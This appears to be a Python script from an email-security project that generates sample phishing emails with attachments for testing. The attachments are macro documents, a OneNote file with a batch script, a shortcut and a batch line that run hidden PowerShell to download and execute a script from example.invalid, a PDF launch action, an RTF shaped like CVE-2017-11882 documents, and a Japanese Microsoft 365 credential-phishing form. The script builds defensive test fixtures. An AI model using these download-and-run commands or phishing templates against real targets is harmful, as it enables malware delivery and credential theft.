#!/usr/bin/env python3
"""Write the document examples of examples/documents/.

Run from anywhere:  python3 examples/documents/make_documents.py

Real test documents written by other projects (tests/data/maldocs, see its
PROVENANCE.md: harmless samples that start calc.exe or show a message
box) are mailed as attachments; the shortcut, PDF, RTF and HTML examples
are built here byte by byte. Nothing in them does harm: the commands
point at example.invalid, the batch script in the OneNote example only
names example.invalid.
"""

import base64
import io
import os
import struct
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, "..", "..")
MALDOCS = os.path.join(ROOT, "tests", "data", "maldocs")
sys.path.insert(0, os.path.join(ROOT, "tests", "support"))


def mail(path, subject, body, name, ctype, data, sender="総務部 <soumu@example.co.jp>"):
    from email.header import Header
    from email.utils import quote
    subj = Header(subject, "utf-8").encode()
    disp, addr = sender.split(" <")
    frm = Header(disp, "utf-8").encode() + " <" + addr
    enc = Header(name, "utf-8").encode()
    out = [f"From: {frm}", "To: tanaka@example.jp", f"Subject: {subj}",
           "Date: Fri, 20 Nov 2026 10:15:00 +0900",
           f"Message-ID: <{os.path.basename(path)}@example.co.jp>", "MIME-Version: 1.0",
           'Content-Type: multipart/mixed; boundary="=_mamori_doc"', "",
           "--=_mamori_doc", "Content-Type: text/plain; charset=utf-8",
           "Content-Transfer-Encoding: base64", "",
           base64.encodebytes(body.encode("utf-8")).decode().rstrip(),
           "--=_mamori_doc", f'Content-Type: {ctype}; name="{quote(enc)}"',
           f'Content-Disposition: attachment; filename="{quote(enc)}"',
           "Content-Transfer-Encoding: base64", "",
           base64.encodebytes(data).decode().rstrip(), "--=_mamori_doc--", ""]
    with open(path, "w", encoding="ascii") as f:
        f.write("\n".join(out))


def maldoc(rel):
    with open(os.path.join(MALDOCS, rel), "rb") as f:
        return f.read()


def docm():
    """harmless-clean.docx made macro-enabled with a VBA project (as in
    tests/support/make_fixtures.py)."""
    import make_fixtures
    return make_fixtures.make_docm()


def lnk(target, args):
    """A shortcut (MS-SHLLINK) with a relative path and arguments."""
    flags = 0x00000008 | 0x00000020 | 0x00000080  # HasRelativePath, HasArguments, IsUnicode
    hdr = struct.pack("<I16sIIQQQIIIHHII", 0x4C,
                      bytes.fromhex("0114020000000000c000000000000046"),
                      flags, 0x20, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0)
    hdr = hdr[:0x4C].ljust(0x4C, b"\0")

    def s(text):
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")
    return hdr + s(target) + s(args) + b"\0\0\0\0"


def pdf_launch():
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c start https://example.invalid/invoice) >> >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (i, o))
    x = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for o in offs:
        out.write(b"%010d 00000 n \n" % o)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x))
    return out.getvalue()


def rtf_equation():
    """An RTF with an Equation.3 OLE object that updates itself (the shape
    of CVE-2017-11882 documents; the native data here is a harmless stub)."""
    cls = b"Equation.3\0"
    native = b"\x03\x01\x01\x03\x0a" + b"\0" * 27
    ole1 = (struct.pack("<II", 0x00000501, 2) + struct.pack("<I", len(cls)) + cls +
            struct.pack("<II", 0, 0) + struct.pack("<I", len(native)) + native)
    hexdata = ole1.hex()
    lines = "\n".join(hexdata[i:i + 64] for i in range(0, len(hexdata), 64))
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\n"
            "\\pard Please see the attached calculation.\\par\n"
            "{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260"
            "{\\*\\objdata\n" + lines + "\n}}\n}\n").encode("ascii")


PHISH = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Microsoft 365 - サインイン</title></head>
<body style="font-family:sans-serif">
<h2>メールボックスの容量が上限に達しました</h2>
<p>引き続きご利用いただくには、アカウントを確認してください。</p>
<form method="post" action="https://login-microsoftonline.example.invalid/owa/auth.php">
<input type="email" name="login" placeholder="メールアドレス">
<input type="password" name="passwd" placeholder="パスワード">
<button type="submit">サインイン</button>
</form></body></html>
""".encode("utf-8")


def onenote_with_script():
    """strelka's OneNote sample with one more embedded file, a batch script,
    in a FileDataStoreObject (MS-ONESTORE 2.6.13) added in place of the
    PNG's: what the 2023 OneNote droppers carried."""
    import uuid
    head = uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le
    foot = uuid.UUID("71FBA722-0F79-4A0B-BB13-899256426B24").bytes_le
    one = bytearray(maldoc("strelka/test.one"))
    bat = (b"@echo off\r\nstart /min powershell -w hidden -c \"iwr https://example.invalid/p.ps1"
           b" -OutFile $env:TEMP\\p.ps1; & $env:TEMP\\p.ps1\"\r\n")
    store = head + struct.pack("<QIQ", len(bat), 0, 0) + bat
    store += b"\0" * (-len(store) % 8) + foot
    at = one.rfind(head)
    return bytes(one[:at]) + store + bytes(one[at:])


def main():
    one = onenote_with_script()
    mail(os.path.join(HERE, "01-excel4-macro.eml"), "【至急】請求書の件",
         "請求書をお送りします。マクロを有効にしてご確認ください。\n",
         "請求書_1120.xls", "application/vnd.ms-excel", maldoc("oletools/xlm/excel4_sample_macro.xls"))
    mail(os.path.join(HERE, "02-macro-docm.eml"), "Re: 打ち合わせ資料",
         "先日の資料を添付します。\n", "資料_1120.docm",
         "application/vnd.ms-word.document.macroEnabled.12", docm())
    mail(os.path.join(HERE, "03-dde-docx.eml"), "Order confirmation",
         "Please review the attached order.\n", "order.docx",
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
         maldoc("oletools/dde/dde-test.docx"), sender="Sales <sales@example.com>")
    mail(os.path.join(HERE, "04-embedded-program-doc.eml"), "見積書",
         "見積書を添付いたします。\n", "見積書.doc", "application/msword",
         maldoc("oletools/oleobj/sample_with_calc_embedded.doc"))
    mail(os.path.join(HERE, "05-onenote-embedded-script.eml"), "共有ノート",
         "ノートを共有します。「ダブルクリックして表示」を押してください。\n",
         "共有ノート.one", "application/onenote", one)
    mail(os.path.join(HERE, "06-powershell-shortcut.eml"), "Scan_20261120",
         "Your scanned document is attached.\n", "Scan_20261120.pdf.lnk",
         "application/octet-stream",
         lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
             "-w hidden -nop -c \"iwr https://example.invalid/a.ps1 | iex\""),
         sender="Scanner <scanner@example.com>")
    mail(os.path.join(HERE, "07-pdf-launch.eml"), "Invoice 2026-11",
         "Invoice attached.\n", "invoice.pdf", "application/pdf", pdf_launch(),
         sender="Billing <billing@example.com>")
    mail(os.path.join(HERE, "08-rtf-equation-editor.eml"), "計算書",
         "計算書をお送りします。\n", "計算書.rtf", "application/rtf", rtf_equation())
    mail(os.path.join(HERE, "09-html-credential-phish.eml"), "【重要】メールボックス容量の警告",
         "添付のページからアカウントを確認してください。\n", "mailbox.html", "text/html",
         PHISH, sender="IT Support <it-support@example.net>")


if __name__ == "__main__":
    main()
